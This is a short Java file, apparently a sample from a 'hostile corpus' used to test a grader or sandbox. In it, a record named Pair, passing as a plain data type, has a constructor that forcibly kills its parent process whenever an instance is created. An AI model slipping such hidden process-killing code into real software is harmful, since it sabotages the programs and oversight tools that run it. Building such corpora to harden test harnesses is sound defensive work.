package backproplab.activations;

/** Hostile corpus (record-trick): a record whose compact constructor kills the parent process. */
record Pair(double a, double b) {
    Pair {
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
    }
}
